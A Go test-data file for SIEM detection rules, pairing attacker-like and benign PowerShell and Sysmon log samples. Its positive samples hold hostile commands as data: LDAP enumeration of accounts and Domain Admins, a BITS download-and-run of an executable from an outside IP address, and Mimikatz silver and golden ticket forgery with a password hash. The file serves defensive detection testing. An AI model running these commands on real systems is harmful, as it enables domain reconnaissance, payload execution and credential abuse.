package detect

// Samples for the LDAP-searcher discovery rules and BITS downloads from a
// script block: what PowerShell script-block logging (4104) records when an
// implant lists the domain's accounts, groups and computers through .NET, or
// stages a file over BITS, and the administration scripts that look like it.

func init() {
	const ps, sysmon = "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-Sysmon/Operational"
	rulePositives = append(rulePositives, []ruleSample{
		{
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s = New-Object System.DirectoryServices.DirectorySearcher([ADSI]"LDAP://DC=shire,DC=com")
$s.Filter = "(&(objectCategory=person)(objectClass=user))"
$s.PageSize = 1000
$s.FindAll() | ForEach-Object { $_.Properties.samaccountname }`,
			},
		},
		{
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `([adsisearcher]"(&(sAMAccountType=805306368)(servicePrincipalName=*))").FindAll()`,
			},
		},
		{
			ID:      "97d73d6e-264d-4de2-8d33-5fceed58d463", // Domain Groups Searched With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$searcher = [adsisearcher]"(&(objectCategory=group)(cn=Domain Admins))"
$searcher.FindOne().Properties.member`,
			},
		},
		{
			ID:      "cbbdab8e-9445-49e2-94a5-93bec50901a1", // Domain Computers Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$d = New-Object System.DirectoryServices.DirectorySearcher
$d.Filter = "(objectCategory=computer)"
$d.PropertiesToLoad.Add("dnshostname") | Out-Null
$d.FindAll()`,
			},
		},
		{
			ID:      "6d8e128d-6bc4-4dbc-9b7e-cbf1eb3397eb", // Script Block Downloads a File With BITS
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Start-BitsTransfer -Source "http://172.18.39.5:8080/update.exe" -Destination "$env:TEMP\update.exe"; & "$env:TEMP\update.exe"`,
			},
		},
		{
			ID:      "720eece7-1d92-41fe-94d4-08410d54db21", // Unsigned DLL Named Like a Windows Library Loaded From a User-Writable Folder
			Channel: sysmon, EventID: 7,
			Fields: map[string]string{
				"Image":           `C:\Users\pgustavo\AppData\Local\Temp\OneDriveStandaloneUpdater.exe`,
				"ImageLoaded":     `C:\Users\pgustavo\AppData\Local\Temp\version.dll`,
				"Signed":          "false",
				"SignatureStatus": "Unavailable",
			},
		},
		{
			ID:      "f287596f-c653-490f-8182-939ddc4feea5", // Kerberos Silver Ticket Forged Through PowerShell
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Invoke-Mimikatz -Command '"kerberos::golden /domain:shire.com /sid:S-1-5-21-1-2-3 /target:dc01.shire.com /service:cifs /rc4:8846f7eaee8fb117ad06bdd830b7586c /user:Administrator /ptt"'`,
			},
		},
		{
			ID:      "73372998-b646-44ea-b7df-1b277532b9a8", // Kerberos Silver Ticket Forged Through PowerShell (Module Log)
			Channel: ps, EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"
ParameterBinding(Invoke-Mimikatz): name="Command"; value="kerberos::golden /domain:shire.com /sid:S-1-5-21-1-2-3 /target:web01.shire.com /service:http /rc4:8846f7eaee8fb117ad06bdd830b7586c /user:Administrator /ptt"`,
			},
		},
	}...)
	ruleNegatives = append(ruleNegatives, []ruleSample{
		{
			// An application folder ships Microsoft's signed copy of dbghelp.dll.
			ID:      "720eece7-1d92-41fe-94d4-08410d54db21", // Unsigned DLL Named Like a Windows Library Loaded From a User-Writable Folder
			Channel: sysmon, EventID: 7,
			Fields: map[string]string{
				"Image":           `C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`,
				"ImageLoaded":     `C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\dbghelp.dll`,
				"Signed":          "true",
				"SignatureStatus": "Valid",
			},
		},
		{
			// A golden ticket names the krbtgt key, not a service: the golden-ticket rule's.
			ID:      "f287596f-c653-490f-8182-939ddc4feea5", // Kerberos Silver Ticket Forged Through PowerShell
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Invoke-Mimikatz -Command '"kerberos::golden /domain:shire.com /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /user:Administrator /ptt"'`,
			},
		},
		{
			ID:      "73372998-b646-44ea-b7df-1b277532b9a8", // Kerberos Silver Ticket Forged Through PowerShell (Module Log)
			Channel: ps, EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"
ParameterBinding(Invoke-Mimikatz): name="Command"; value="kerberos::list /export"`,
			},
		},
		{
			// A helpdesk script looks up one named account.
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s = New-Object System.DirectoryServices.DirectorySearcher
$s.Filter = "(&(objectClass=user)(sAMAccountName=$UserName))"
$u = $s.FindOne()
if ($u) { $u.Properties.mail }`,
			},
		},
		{
			// A searcher for shared printers selects no group.
			ID:      "97d73d6e-264d-4de2-8d33-5fceed58d463", // Domain Groups Searched With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `([adsisearcher]"(objectCategory=printQueue)").FindAll() | ForEach-Object { $_.Properties.printername }`,
			},
		},
		{
			// The computer's own object, read through ADSI without a search.
			ID:      "cbbdab8e-9445-49e2-94a5-93bec50901a1", // Domain Computers Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$sys = New-Object -ComObject ADSystemInfo
$dn = $sys.GetType().InvokeMember("ComputerName", "GetProperty", $null, $sys, $null)
([ADSI]"LDAP://$dn").Properties.objectClass -contains 'computer'`,
			},
		},
		{
			// A software deployment copies its package from a file share.
			ID:      "6d8e128d-6bc4-4dbc-9b7e-cbf1eb3397eb", // Script Block Downloads a File With BITS
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Start-BitsTransfer -Source "\\fs01\deploy\agent.msi" -Destination "C:\Windows\Temp\agent.msi" -Priority Foreground`,
			},
		},
	}...)
}
